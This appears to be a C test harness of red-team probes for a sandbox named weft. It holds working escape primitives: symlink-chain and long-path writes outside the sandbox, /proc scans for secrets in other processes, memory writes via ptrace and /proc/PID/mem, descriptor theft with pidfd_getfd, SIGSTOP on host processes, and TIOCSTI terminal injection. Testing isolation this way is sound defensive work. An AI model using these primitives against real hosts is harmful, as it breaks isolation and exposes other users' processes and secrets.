@@ -1,0 +1,1157 @@
+// Hostile probes for scripts/redteam.sh (issue 36). One binary, one probe
+// per run: `probe RUNDIR ID NAME PARAMS...` as a weft node, whose model
+// passes {rundir} and {id} first. The probe only attacks and prints what
+// it got; scripts/redteam.sh judges from the host side. Lines "V: ..."
+// are values a leak probe read: the script runs the same probe natively
+// and a native V line that appears in the node's output is a host value
+// the node saw. `probe --host CMD ...` are the script's own native helpers
+// (file snapshots, memory peeks, the terminal harness).
+#define _GNU_SOURCE
+#include <cpuid.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <immintrin.h>
+#include <linux/fs.h>
+#include <linux/ioprio.h>
+#include <linux/openat2.h>
+#include <linux/userfaultfd.h>
+#include <net/if.h>
+#include <poll.h>
+#include <pthread.h>
+#include <pty.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/file.h>
+#include <sys/inotify.h>
+#include <sys/ioctl.h>
+#include <sys/klog.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/statfs.h>
+#include <sys/syscall.h>
+#include <sys/sysinfo.h>
+#include <sys/time.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <sys/utsname.h>
+#include <sys/wait.h>
+#include <sys/xattr.h>
+#include <termios.h>
+#include <time.h>
+#include <unistd.h>
+
+#define PWN "PWNED-by-weft-redteam\n"
+
+static void out(const char *fmt, ...) {
+	va_list ap;
+	va_start(ap, fmt);
+	vprintf(fmt, ap);
+	va_end(ap);
+	fflush(stdout);
+}
+
+// rc prints what a call returned, with errno's name when it failed.
+static long rc(const char *what, long r) {
+	if (r < 0)
+		out("%s = -1 %s\n", what, strerror(errno));
+	else
+		out("%s = %ld\n", what, r);
+	return r;
+}
+
+static uint64_t fnv(const void *p, size_t n) {
+	uint64_t h = 1469598103934665603ull;
+	for (size_t i = 0; i < n; i++)
+		h = (h ^ ((const unsigned char *)p)[i]) * 1099511628211ull;
+	return h;
+}
+
+static ssize_t slurp(const char *path, char *buf, size_t n) {
+	int fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return -1;
+	size_t got = 0;
+	ssize_t k;
+	while (got < n - 1 && (k = read(fd, buf + got, n - 1 - got)) > 0)
+		got += k;
+	close(fd);
+	buf[got] = 0;
+	return got;
+}
+
+// --- paths -------------------------------------------------------------
+
+// longrel turns an absolute path into a relative one
+// (4089 or 4090 bytes: "./" many times, then enough ".." to reach /),
+// under PATH_MAX for the node but not once weft
+// prefixes it with /proc/PID/cwd.
+static char *longrel(const char *abs) {
+	static char buf[4096];
+	size_t tail = 3 * 48 + strlen(abs);
+	size_t n = 0;
+	while (n + 2 + tail <= 4090)
+		n += sprintf(buf + n, "./");
+	for (int i = 0; i < 48; i++)
+		n += sprintf(buf + n, "../");
+	strcpy(buf + n, abs + 1);
+	return buf;
+}
+
+// chain makes the 40 symlinks c0 -> c1 -> ... -> c39 -> target in the run
+// directory: the kernel follows exactly 40, one more (weft's
+// /proc/PID/cwd) is ELOOP.
+static const char *chain(const char *target) {
+	char a[32], b[32];
+	for (int i = 0; i < 40; i++) {
+		snprintf(a, sizeof a, "c%d", i);
+		snprintf(b, sizeof b, "c%d", i + 1);
+		unlink(a);
+		if (symlink(i == 39 ? target : b, a) < 0)
+			rc("symlink(chain)", -1);
+	}
+	return "c0";
+}
+
+static const char *route(const char *how, const char *abs, char *buf, size_t n) {
+	if (!strcmp(how, "abs"))
+		return abs;
+	if (!strcmp(how, "long"))
+		return longrel(abs);
+	if (!strcmp(how, "chain"))
+		return chain(abs);
+	if (!strcmp(how, "chaindir")) {
+		char dir[4096];
+		snprintf(dir, sizeof dir, "%s", abs);
+		char *slash = strrchr(dir, '/');
+		*slash = 0;
+		chain(dir);
+		snprintf(buf, n, "c0/%s", slash + 1);
+		return buf;
+	}
+	if (!strcmp(how, "selfroot")) {
+		snprintf(buf, n, "/proc/self/root%s", abs);
+		return buf;
+	}
+	if (!strcmp(how, "link")) {
+		unlink("lnk");
+		symlink(abs, "lnk");
+		return "lnk";
+	}
+	return abs;
+}
+
+// pathop performs one changing operation on path; a names another path
+// when the operation takes two (rename, link).
+static void pathop(const char *op, const char *path) {
+	int fd;
+	struct timeval tv[2] = {{0, 0}, {0, 0}};
+	close(open("mine", O_CREAT | O_WRONLY, 0644));
+	if (!strcmp(op, "creat")) {
+		fd = rc("open(O_CREAT)", open(path, O_CREAT | O_WRONLY, 0666));
+		if (fd >= 0)
+			rc("write", write(fd, PWN, strlen(PWN)));
+	} else if (!strcmp(op, "openwr")) {
+		fd = rc("open(O_WRONLY|O_APPEND)", open(path, O_WRONLY | O_APPEND));
+		if (fd >= 0)
+			rc("write", write(fd, PWN, strlen(PWN)));
+	} else if (!strcmp(op, "mkdir"))
+		rc("mkdir", mkdir(path, 0777));
+	else if (!strcmp(op, "rmdir"))
+		rc("rmdir", rmdir(path));
+	else if (!strcmp(op, "symlink"))
+		rc("symlink", symlink("/pwned", path));
+	else if (!strcmp(op, "mknod"))
+		rc("mkfifo", mkfifo(path, 0666));
+	else if (!strcmp(op, "renameout"))
+		rc("rename(mine, out)", rename("mine", path));
+	else if (!strcmp(op, "renamein"))
+		rc("rename(out, stolen)", rename(path, "stolen"));
+	else if (!strcmp(op, "exchange"))
+		rc("renameat2(EXCHANGE)", syscall(SYS_renameat2, AT_FDCWD, "mine", AT_FDCWD, path, RENAME_EXCHANGE));
+	else if (!strcmp(op, "link"))
+		rc("link(mine, out)", link("mine", path));
+	else if (!strcmp(op, "chmod"))
+		rc("chmod", chmod(path, 04777));
+	else if (!strcmp(op, "chown"))
+		rc("chown", chown(path, 65534, 65534));
+	else if (!strcmp(op, "truncate"))
+		rc("truncate", truncate(path, 1));
+	else if (!strcmp(op, "utimes"))
+		rc("utimes", utimes(path, tv));
+	else if (!strcmp(op, "unlink"))
+		rc("unlink", unlink(path));
+	else if (!strcmp(op, "setxattr"))
+		rc("setxattr", setxattr(path, "user.pwned", "1", 1, 0));
+	else if (!strcmp(op, "bind")) {
+		struct sockaddr_un sa = {.sun_family = AF_UNIX};
+		snprintf(sa.sun_path, sizeof sa.sun_path, "%s", path);
+		int s = socket(AF_UNIX, SOCK_STREAM, 0);
+		rc("bind", bind(s, (struct sockaddr *)&sa, sizeof sa));
+	} else
+		out("unknown op %s\n", op);
+}
+
+// path ROUTE OP OUTPATH: change OUTPATH (outside the run directory)
+// through ROUTE.
+static int p_path(char **a) {
+	char buf[4200];
+	pathop(a[1], route(a[0], a[2], buf, sizeof buf));
+	return 0;
+}
+
+// dangling MODE OUTDIR: through a symlink in the run directory that names
+// a missing file outside (creat, openat2, trunc), or, for dir-OP, OP on
+// l/f where l names the directory outside.
+static int p_dangling(char **a) {
+	char f[4096];
+	snprintf(f, sizeof f, "%s/f", a[1]);
+	unlink("l");
+	if (!strcmp(a[0], "creat")) {
+		symlink(f, "l");
+		pathop("creat", "l");
+	} else if (!strcmp(a[0], "openat2")) {
+		symlink(f, "l");
+		struct open_how how = {.flags = O_CREAT | O_WRONLY, .mode = 0666};
+		int fd = rc("openat2(O_CREAT)", syscall(SYS_openat2, AT_FDCWD, "l", &how, sizeof how));
+		if (fd >= 0)
+			write(fd, PWN, strlen(PWN));
+	} else if (!strcmp(a[0], "trunc")) {
+		symlink(f, "l");
+		int fd = rc("open(O_TRUNC|O_CREAT)", open("l", O_RDWR | O_CREAT | O_TRUNC, 0600));
+		if (fd >= 0)
+			write(fd, PWN, strlen(PWN));
+	} else if (!strncmp(a[0], "dir-", 4)) {
+		symlink(a[1], "l");
+		pathop(a[0] + 4, "l/f");
+	} else
+		out("unknown mode %s\n", a[0]);
+	return 0;
+}
+
+// othernode: node 0 plants a file in node 1's run directory through a
+// dangling symlink and directly; node 1 reports what it finds.
+static int p_othernode(char **a, const char *id) {
+	if (!strcmp(id, "0")) {
+		unlink("l");
+		symlink("../node1/planted-sym", "l");
+		pathop("creat", "l");
+		pathop("creat", "../node1/planted-direct");
+		return 0;
+	}
+	sleep(5);
+	DIR *d = opendir(".");
+	struct dirent *e;
+	while (d && (e = readdir(d)))
+		if (!strncmp(e->d_name, "planted", 7))
+			out("FOUND %s\n", e->d_name);
+	return 0;
+}
+
+// fdop VICTIM OP: a change through a descriptor opened read-only (or
+// O_PATH), or a reopen of it for writing.
+static int p_rofd(char **a) {
+	int fd = rc("open(O_RDONLY)", open(a[0], O_RDONLY));
+	const char *op = a[1];
+	struct timespec ts[2] = {{0, 0}, {0, 0}};
+	char p[64];
+	if (!strcmp(op, "fchmod"))
+		rc("fchmod", fchmod(fd, 04777));
+	else if (!strcmp(op, "fchown"))
+		rc("fchown", fchown(fd, 65534, 65534));
+	else if (!strcmp(op, "futimens"))
+		rc("futimens", futimens(fd, ts));
+	else if (!strcmp(op, "fsetxattr"))
+		rc("fsetxattr", fsetxattr(fd, "user.pwned", "1", 1, 0));
+	else if (!strcmp(op, "reopen") || !strcmp(op, "opath")) {
+		if (!strcmp(op, "opath"))
+			fd = rc("open(O_PATH)", open(a[0], O_PATH));
+		snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
+		int w = rc("open(/proc/self/fd/N, O_WRONLY)", open(p, O_WRONLY | O_APPEND));
+		if (w >= 0)
+			rc("write", write(w, PWN, strlen(PWN)));
+	} else if (!strcmp(op, "setflags")) {
+		int fl = 0;
+		ioctl(fd, FS_IOC_GETFLAGS, &fl);
+		fl |= FS_NODUMP_FL | FS_NOATIME_FL;
+		rc("ioctl(FS_IOC_SETFLAGS)", ioctl(fd, FS_IOC_SETFLAGS, &fl));
+	} else if (!strcmp(op, "fssetxattr")) {
+		struct fsxattr fx = {0};
+		ioctl(fd, FS_IOC_FSGETXATTR, &fx);
+		fx.fsx_xflags |= FS_XFLAG_NODUMP | FS_XFLAG_NOATIME;
+		rc("ioctl(FS_IOC_FSSETXATTR)", ioctl(fd, FS_IOC_FSSETXATTR, &fx));
+	} else if (!strcmp(op, "setversion")) {
+		int v = 12345;
+		rc("ioctl(FS_IOC_SETVERSION)", ioctl(fd, FS_IOC_SETVERSION, &v));
+	} else if (!strcmp(op, "handle")) {
+		struct {
+			struct file_handle h;
+			unsigned char b[128];
+		} fh = {.h.handle_bytes = 128};
+		int mnt;
+		rc("name_to_handle_at", name_to_handle_at(AT_FDCWD, a[0], &fh.h, &mnt, 0));
+		int w = rc("open_by_handle_at(O_WRONLY)", open_by_handle_at(fd, &fh.h, O_WRONLY | O_APPEND));
+		if (w >= 0)
+			rc("write", write(w, PWN, strlen(PWN)));
+	}
+	return 0;
+}
+
+// dirfd OUTDIR HOW: create a file outside through a directory descriptor
+// or a working directory outside.
+static int p_dirfd(char **a) {
+	int d = rc("open(outdir, O_DIRECTORY)", open(a[0], O_RDONLY | O_DIRECTORY));
+	char f[4096];
+	snprintf(f, sizeof f, "%s/f", a[0]);
+	if (!strcmp(a[1], "openat"))
+		rc("openat(dirfd, f, O_CREAT)", openat(d, "f", O_CREAT | O_WRONLY, 0666));
+	else if (!strcmp(a[1], "fchdir")) {
+		rc("fchdir", fchdir(d));
+		rc("open(f, O_CREAT)", open("f", O_CREAT | O_WRONLY, 0666));
+	} else if (!strcmp(a[1], "chdir")) {
+		rc("chdir", chdir(a[0]));
+		rc("open(f, O_CREAT)", open("f", O_CREAT | O_WRONLY, 0666));
+	} else if (!strcmp(a[1], "tmpfile")) {
+		int t = rc("open(., O_TMPFILE)", open(".", O_TMPFILE | O_WRONLY, 0666));
+		write(t, PWN, strlen(PWN));
+		rc("linkat(tmpfile, outside)", linkat(t, "", AT_FDCWD, f, AT_EMPTY_PATH));
+		char p[64];
+		snprintf(p, sizeof p, "/proc/self/fd/%d", t);
+		rc("linkat(/proc/self/fd/N, outside)", linkat(AT_FDCWD, p, AT_FDCWD, f, AT_SYMLINK_FOLLOW));
+	} else if (!strcmp(a[1], "mount"))
+		rc("mount(tmpfs, outdir)", mount("none", a[0], "tmpfs", 0, NULL));
+	return 0;
+}
+
+// --- other processes ---------------------------------------------------
+
+// procread HOW PID FILE: read another (host) process's /proc file by a
+// route and print it (NULs as spaces).
+static int p_procread(char **a) {
+	char abs[256], buf[4200], data[65536];
+	snprintf(abs, sizeof abs, "/proc/%s/%s", a[1], a[2]);
+	const char *p = abs;
+	if (!strcmp(a[0], "dotdot")) {
+		snprintf(buf, sizeof buf, "/proc/self/../%s/%s", a[1], a[2]);
+		p = buf;
+	} else if (!strcmp(a[0], "fdroot")) {
+		int r = open("/", O_PATH | O_DIRECTORY);
+		snprintf(buf, sizeof buf, "/proc/self/fd/%d%s", r, abs);
+		p = buf;
+	} else if (!strcmp(a[0], "symdir")) {
+		char d[64];
+		snprintf(d, sizeof d, "/proc/%s", a[1]);
+		unlink("pd");
+		symlink(d, "pd");
+		snprintf(buf, sizeof buf, "pd/%s", a[2]);
+		p = buf;
+	} else if (!strcmp(a[0], "dirfd")) {
+		int d = open("/proc", O_RDONLY | O_DIRECTORY);
+		snprintf(buf, sizeof buf, "%s/%s", a[1], a[2]);
+		int fd = rc("openat(/proc, PID/FILE)", openat(d, buf, O_RDONLY));
+		ssize_t k = fd < 0 ? -1 : read(fd, data, sizeof data - 1);
+		for (ssize_t i = 0; i < k; i++)
+			if (!data[i])
+				data[i] = ' ';
+		if (k > 0)
+			out("READ %.*s\n", (int)k, data);
+		return 0;
+	} else
+		p = route(a[0], abs, buf, sizeof buf);
+	ssize_t k = slurp(p, data, sizeof data);
+	rc("read", k);
+	for (ssize_t i = 0; i < k; i++)
+		if (!data[i])
+			data[i] = ' ';
+	if (k > 0)
+		out("READ %s\n", data);
+	return 0;
+}
+
+// proclink PID NAME: readlink of another process's cwd or fd.
+static int p_proclink(char **a) {
+	char p[128], buf[4096];
+	snprintf(p, sizeof p, "/proc/%s/%s", a[0], a[1]);
+	ssize_t k = rc("readlink", readlink(p, buf, sizeof buf - 1));
+	if (k > 0)
+		out("LINK %.*s\n", (int)k, buf);
+	return 0;
+}
+
+// procscan WHAT NEEDLE: list /proc and print every process's file that
+// holds -NEEDLE or NEEDLE= (what an attacker looking for secrets does;
+// the probe's own arguments hold neither).
+static int p_procscan(char **a) {
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+	char p[300], data[65536];
+	int seen = 0;
+	while (d && (e = readdir(d))) {
+		if (e->d_name[0] < '0' || e->d_name[0] > '9')
+			continue;
+		seen++;
+		snprintf(p, sizeof p, "/proc/%s/%s", e->d_name, a[0]);
+		ssize_t k = slurp(p, data, sizeof data);
+		for (ssize_t i = 0; i < k; i++)
+			if (!data[i])
+				data[i] = ' ';
+		char dash[256], eq[256];
+		snprintf(dash, sizeof dash, "-%s", a[1]);
+		snprintf(eq, sizeof eq, "%s=", a[1]);
+		if (k > 0 && (strstr(data, dash) || strstr(data, eq)))
+			out("FOUND pid %s: %s\n", e->d_name, data);
+	}
+	out("processes listed: %d\n", seen);
+	return 0;
+}
+
+// memread PID ADDR LEN: read another process's memory (its environment)
+// through /proc/PID/mem or process_vm_readv and print it.
+static int p_memread(char **a, int pvm) {
+	char p[64];
+	size_t n = strtoul(a[2], 0, 0);
+	if (n > 65536)
+		n = 65536;
+	char *buf = calloc(1, n + 1);
+	uint64_t addr = strtoull(a[1], 0, 0);
+	ssize_t k;
+	if (pvm) {
+		struct iovec l = {buf, n}, r = {(void *)addr, n};
+		k = rc("process_vm_readv", syscall(SYS_process_vm_readv, atoi(a[0]), &l, 1, &r, 1, 0));
+	} else {
+		snprintf(p, sizeof p, "/proc/%s/mem", a[0]);
+		int fd = rc("open(/proc/PID/mem)", open(p, O_RDONLY));
+		k = rc("pread", pread(fd, buf, n, addr));
+	}
+	for (ssize_t i = 0; i < k; i++)
+		if (!buf[i])
+			buf[i] = ' ';
+	if (k > 0)
+		out("MEM %s\n", buf);
+	return 0;
+}
+
+// memwrite HOW PID ADDR: write into another process's memory.
+static int p_memwrite(char **a) {
+	char abs[64], buf[4200];
+	uint64_t addr = strtoull(a[2], 0, 0);
+	const char *pw = "PWNED!!";
+	snprintf(abs, sizeof abs, "/proc/%s/mem", a[1]);
+	if (!strcmp(a[0], "pvm")) {
+		struct iovec l = {(void *)pw, 8}, r = {(void *)addr, 8};
+		rc("process_vm_writev", syscall(SYS_process_vm_writev, atoi(a[1]), &l, 1, &r, 1, 0));
+		return 0;
+	}
+	if (!strcmp(a[0], "ptrace")) {
+		pid_t p = atoi(a[1]);
+		rc("ptrace(SEIZE)", ptrace(PTRACE_SEIZE, p, 0, 0));
+		rc("ptrace(INTERRUPT)", ptrace(PTRACE_INTERRUPT, p, 0, 0));
+		waitpid(p, 0, __WALL);
+		uint64_t v;
+		memcpy(&v, pw, 8);
+		rc("ptrace(POKEDATA)", ptrace(PTRACE_POKEDATA, p, (void *)addr, (void *)v));
+		ptrace(PTRACE_DETACH, p, 0, 0);
+		return 0;
+	}
+	const char *p = route(a[0], abs, buf, sizeof buf);
+	int fd = rc("open(mem, O_RDWR)", open(p, O_RDWR));
+	if (fd >= 0)
+		rc("pwrite", pwrite(fd, pw, 8, addr));
+	return 0;
+}
+
+// getfd PID FD: take a host process's descriptor and write through it.
+static int p_getfd(char **a) {
+	int pfd = rc("pidfd_open", syscall(SYS_pidfd_open, atoi(a[0]), 0));
+	int fd = rc("pidfd_getfd", syscall(SYS_pidfd_getfd, pfd, atoi(a[1]), 0));
+	if (fd >= 0)
+		rc("write", write(fd, PWN, strlen(PWN)));
+	return 0;
+}
+
+// --- signals and priorities ----------------------------------------------
+
+static void async_to(int fd, pid_t owner, int pgrp) {
+	if (pgrp) {
+		struct f_owner_ex ex = {F_OWNER_PGRP, owner};
+		rc("fcntl(F_SETOWN_EX, PGRP)", fcntl(fd, F_SETOWN_EX, &ex));
+	} else
+		rc("fcntl(F_SETOWN)", fcntl(fd, F_SETOWN, owner));
+	rc("fcntl(F_SETSIG, SIGSTOP)", fcntl(fd, F_SETSIG, SIGSTOP));
+	rc("fcntl(F_SETFL, O_ASYNC)", fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_ASYNC));
+}
+
+// signal HOW PID: stop a host process (SIGSTOP) by a route.
+static int p_signal(char **a) {
+	pid_t p = atoi(a[1]);
+	const char *h = a[0];
+	siginfo_t si = {.si_signo = SIGSTOP, .si_code = SI_QUEUE};
+	int fds[2];
+	if (!strcmp(h, "kill"))
+		rc("kill", kill(p, SIGSTOP));
+	else if (!strcmp(h, "killpg"))
+		rc("kill(-pgid)", kill(-p, SIGSTOP));
+	else if (!strcmp(h, "tgkill"))
+		rc("tgkill", syscall(SYS_tgkill, p, p, SIGSTOP));
+	else if (!strcmp(h, "tkill"))
+		rc("tkill", syscall(SYS_tkill, p, SIGSTOP));
+	else if (!strcmp(h, "sigqueue"))
+		rc("rt_sigqueueinfo", syscall(SYS_rt_sigqueueinfo, p, SIGSTOP, &si));
+	else if (!strcmp(h, "tgsigqueue"))
+		rc("rt_tgsigqueueinfo", syscall(SYS_rt_tgsigqueueinfo, p, p, SIGSTOP, &si));
+	else if (!strcmp(h, "pidfd")) {
+		int fd = rc("pidfd_open", syscall(SYS_pidfd_open, p, 0));
+		rc("pidfd_send_signal", syscall(SYS_pidfd_send_signal, fd, SIGSTOP, NULL, 0));
+	} else if (!strcmp(h, "procdir")) {
+		char d[64];
+		snprintf(d, sizeof d, "/proc/%d", p);
+		int fd = rc("open(/proc/PID)", open(d, O_RDONLY | O_DIRECTORY));
+		rc("pidfd_send_signal(/proc/PID fd)", syscall(SYS_pidfd_send_signal, fd, SIGSTOP, NULL, 0));
+	} else if (!strcmp(h, "setown") || !strcmp(h, "setownpgrp")) {
+		pipe(fds);
+		async_to(fds[0], p, h[6] == 'p');
+		rc("write", write(fds[1], "x", 1));
+	} else if (!strcmp(h, "setowninotify")) {
+		int in = rc("inotify_init1", inotify_init1(0));
+		rc("inotify_add_watch(.)", inotify_add_watch(in, ".", IN_CREATE));
+		async_to(in, p, 0);
+		close(open("new", O_CREAT | O_WRONLY, 0644));
+	} else if (!strcmp(h, "setownsock")) {
+		socketpair(AF_UNIX, SOCK_STREAM, 0, fds);
+		async_to(fds[0], p, 0);
+		rc("write", write(fds[1], "x", 1));
+	} else if (!strcmp(h, "fiosetown") || !strcmp(h, "siocspgrp")) {
+		socketpair(AF_UNIX, SOCK_STREAM, 0, fds);
+		int on = 1, owner = h[0] == 'f' ? p : -p;
+		rc("ioctl(FIOSETOWN/SIOCSPGRP)", ioctl(fds[0], h[0] == 'f' ? FIOSETOWN : SIOCSPGRP, &owner));
+		rc("fcntl(F_SETSIG, SIGSTOP)", fcntl(fds[0], F_SETSIG, SIGSTOP));
+		rc("ioctl(FIOASYNC)", ioctl(fds[0], FIOASYNC, &on));
+		rc("write", write(fds[1], "x", 1));
+	}
+	return 0;
+}
+
+// prio HOW PID UID: change a host process's priority, affinity, policy
+// or limits.
+static int p_prio(char **a) {
+	pid_t p = atoi(a[1]);
+	uid_t u = atoi(a[2]);
+	const char *h = a[0];
+	if (!strcmp(h, "process"))
+		rc("setpriority(PRIO_PROCESS)", setpriority(PRIO_PROCESS, p, 19));
+	else if (!strcmp(h, "pgrp"))
+		rc("setpriority(PRIO_PGRP)", setpriority(PRIO_PGRP, p, 19));
+	else if (!strcmp(h, "user"))
+		rc("setpriority(PRIO_USER)", setpriority(PRIO_USER, u, 19));
+	else if (!strcmp(h, "ioprio"))
+		rc("ioprio_set(WHO_PROCESS)", syscall(SYS_ioprio_set, IOPRIO_WHO_PROCESS, p, IOPRIO_PRIO_VALUE(IOPRIO_CLASS_IDLE, 0)));
+	else if (!strcmp(h, "iopriopgrp"))
+		rc("ioprio_set(WHO_PGRP)", syscall(SYS_ioprio_set, IOPRIO_WHO_PGRP, p, IOPRIO_PRIO_VALUE(IOPRIO_CLASS_IDLE, 0)));
+	else if (!strcmp(h, "iopriouser"))
+		rc("ioprio_set(WHO_USER)", syscall(SYS_ioprio_set, IOPRIO_WHO_USER, u, IOPRIO_PRIO_VALUE(IOPRIO_CLASS_IDLE, 0)));
+	else if (!strcmp(h, "affinity")) {
+		cpu_set_t s;
+		CPU_ZERO(&s);
+		CPU_SET(1, &s);
+		rc("sched_setaffinity", sched_setaffinity(p, sizeof s, &s));
+	} else if (!strcmp(h, "scheduler")) {
+		struct sched_param sp = {0};
+		rc("sched_setscheduler(SCHED_IDLE)", sched_setscheduler(p, SCHED_IDLE, &sp));
+	} else if (!strcmp(h, "setattr")) {
+		struct {
+			uint32_t size, policy;
+			uint64_t flags;
+			int32_t nice;
+			uint32_t prio;
+			uint64_t rt, dl, per;
+		} at = {.size = 48, .policy = SCHED_BATCH, .nice = 18};
+		rc("sched_setattr", syscall(SYS_sched_setattr, p, &at, 0));
+	} else if (!strcmp(h, "prlimit")) {
+		struct rlimit r = {7, 7};
+		rc("prlimit(RLIMIT_NOFILE)", prlimit(p, RLIMIT_NOFILE, &r, NULL));
+	}
+	return 0;
+}
+
+// --- terminals, locks, inherited descriptors -------------------------
+
+// tty HOW MARK: act on the controlling terminal of whoever runs weft.
+static int p_tty(char **a) {
+	int fd = rc("open(/dev/tty, O_RDWR)", open("/dev/tty", O_RDWR | O_NOCTTY));
+	if (fd < 0) // TIOCSTI and the settings need no write access
+		fd = rc("open(/dev/tty, O_RDONLY)", open("/dev/tty", O_RDONLY | O_NOCTTY));
+	const char *h = a[0];
+	if (!strcmp(h, "tiocsti")) {
+		char line[128];
+		snprintf(line, sizeof line, "%s\n", a[1]);
+		int ok = 0;
+		for (char *c = line; *c; c++)
+			ok += ioctl(fd, TIOCSTI, c) == 0;
+		out("TIOCSTI pushed %d bytes\n", ok);
+	} else if (!strcmp(h, "write")) {
+		char line[128];
+		snprintf(line, sizeof line, "\r\n%s\r\n", a[1]);
+		rc("write(/dev/tty)", write(fd, line, strlen(line)));
+	} else if (!strcmp(h, "winsz")) {
+		struct winsize w = {7, 7, 0, 0};
+		rc("ioctl(TIOCSWINSZ)", ioctl(fd, TIOCSWINSZ, &w));
+	} else if (!strcmp(h, "tcsets")) {
+		struct termios t;
+		tcgetattr(fd, &t);
+		t.c_lflag &= ~(ECHO | ICANON);
+		rc("tcsetattr(-ECHO)", tcsetattr(fd, TCSANOW, &t));
+	}
+	return 0;
+}
+
+// spin holds the node alive, without system calls, while the script
+// judges; the script ends the run.
+static void spin(void) {
+	out("holding\n");
+	for (volatile uint64_t i = 0; i < 40000000000ull; i++)
+		;
+}
+
+// lock HOW FILE: hold a lock on a host file a host writer needs.
+static int p_lock(char **a) {
+	int fd = rc("open(O_RDONLY)", open(a[1], O_RDONLY));
+	struct flock fl = {.l_type = F_RDLCK, .l_whence = SEEK_SET};
+	if (!strcmp(a[0], "lease"))
+		rc("fcntl(F_SETLEASE, F_RDLCK)", fcntl(fd, F_SETLEASE, F_RDLCK));
+	else if (!strcmp(a[0], "flock"))
+		rc("flock(LOCK_EX)", flock(fd, LOCK_EX));
+	else if (!strcmp(a[0], "posix"))
+		rc("fcntl(F_SETLK, F_RDLCK)", fcntl(fd, F_SETLK, &fl));
+	else if (!strcmp(a[0], "ofd"))
+		rc("fcntl(F_OFD_SETLK, F_RDLCK)", fcntl(fd, F_OFD_SETLK, &fl));
+	spin();
+	return 0;
+}
+
+// inherit HOW: use descriptors the node did not open (3..255): inherited
+// from whoever started weft.
+static int p_inherit(char **a) {
+	for (int fd = 3; fd < 256; fd++) {
+		struct stat st;
+		if (fstat(fd, &st) < 0)
+			continue;
+		out("fd %d open\n", fd);
+		if (!strcmp(a[0], "write") && S_ISREG(st.st_mode))
+			rc("write(inherited)", write(fd, PWN, strlen(PWN)));
+		else if (!strcmp(a[0], "openat") && S_ISDIR(st.st_mode))
+			rc("openat(inherited, f, O_CREAT)", openat(fd, "f", O_CREAT | O_WRONLY, 0666));
+		else if (!strcmp(a[0], "fchdir") && S_ISDIR(st.st_mode)) {
+			rc("fchdir(inherited)", fchdir(fd));
+			rc("open(g, O_CREAT)", open("g", O_CREAT | O_WRONLY, 0666));
+		}
+	}
+	return 0;
+}
+
+// --- CPU identity and host values ---------------------------------------
+
+static int p_cpu(char **a) {
+	unsigned int r[4] = {0};
+	const char *h = a[0];
+	if (!strcmp(h, "vendor")) {
+		__cpuid(0, r[0], r[1], r[2], r[3]);
+		char v[13] = {0};
+		memcpy(v, &r[1], 4), memcpy(v + 4, &r[3], 4), memcpy(v + 8, &r[2], 4);
+		out("V: vendor %s\n", v);
+	} else if (!strcmp(h, "brand")) {
+		char b[49] = {0};
+		for (unsigned i = 0; i < 3; i++) {
+			__cpuid(0x80000002 + i, r[0], r[1], r[2], r[3]);
+			memcpy(b + 16 * i, r, 16);
+		}
+		out("V: brand %s\n", b);
+	} else if (!strcmp(h, "leaf1")) {
+		__cpuid(1, r[0], r[1], r[2], r[3]);
+		out("V: signature %08x features %08x %08x\n", r[0], r[2], r[3]);
+	} else if (!strcmp(h, "rdpid")) {
+		uint64_t v;
+		__asm__ volatile("rdpid %0" : "=r"(v));
+		out("rdpid %lu\n", (unsigned long)v);
+	} else if (!strcmp(h, "rdtscp")) {
+		unsigned aux;
+		__rdtscp(&aux);
+		out("rdtscp aux %u\n", aux);
+	} else if (!strcmp(h, "getcpu")) {
+		unsigned c = 0, n = 0;
+		rc("getcpu", syscall(SYS_getcpu, &c, &n, 0));
+		out("getcpu cpu %u node %u\n", c, n);
+	} else if (!strcmp(h, "lsl")) {
+		unsigned v = 0, sel = 15 * 8 + 3; // GDT_ENTRY_CPUNODE
+		__asm__ volatile("lsl %1, %0" : "=r"(v) : "r"(sel));
+		out("lsl cpu %u\n", v & 0xfff);
+	} else if (!strcmp(h, "rdrand") || !strcmp(h, "rdseed")) {
+		unsigned long long v = 0;
+		int ok = h[2] == 'r' ? _rdrand64_step(&v) : _rdseed64_step(&v);
+		out("%s ok %d value %llx\n", h, ok, v);
+	} else if (!strcmp(h, "rdtsc"))
+		out("rdtsc %llu\n", (unsigned long long)__rdtsc());
+	return 0;
+}
+
+// vvar: scan the [vvar] page for the host's wall clock (seconds since
+// 1970 between 2020 and 2100) and print every candidate.
+static int p_vvar(char **a) {
+	(void)a;
+	char maps[65536];
+	slurp("/proc/self/maps", maps, sizeof maps);
+	char *l = strstr(maps, "[vvar]");
+	if (!l) {
+		out("no [vvar] in maps\n");
+		return 0;
+	}
+	while (l > maps && l[-1] != '\n')
+		l--;
+	unsigned long lo, hi;
+	sscanf(l, "%lx-%lx", &lo, &hi);
+	for (unsigned long p = lo; p < hi; p += 8) {
+		uint64_t v = *(volatile uint64_t *)p;
+		if (v > 1577836800ull && v < 4102444800ull)
+			out("VVAR %lu\n", (unsigned long)v);
+	}
+	return 0;
+}
+
+static int p_clock(char **a) {
+	struct timespec ts;
+	if (!strcmp(a[0], "vdso"))
+		clock_gettime(CLOCK_REALTIME, &ts);
+	else
+		syscall(SYS_clock_gettime, CLOCK_REALTIME, &ts);
+	out("VVAR %ld\n", (long)ts.tv_sec);
+	return 0;
+}
+
+static void vfile(const char *path) {
+	char buf[65536];
+	ssize_t k = slurp(path, buf, sizeof buf);
+	if (k > 0)
+		out("V: %s %016llx\n", path, (unsigned long long)fnv(buf, k));
+	else
+		rc("read", k);
+}
+
+static void vline(const char *path, const char *prefix) {
+	char buf[65536];
+	if (slurp(path, buf, sizeof buf) <= 0)
+		return;
+	for (char *l = strtok(buf, "\n"); l; l = strtok(NULL, "\n"))
+		if (!prefix || !strncmp(l, prefix, strlen(prefix))) {
+			out("V: %s\n", l);
+			if (!prefix)
+				return;
+		}
+}
+
+// host WHAT: print a host-identifying value as "V: ...".
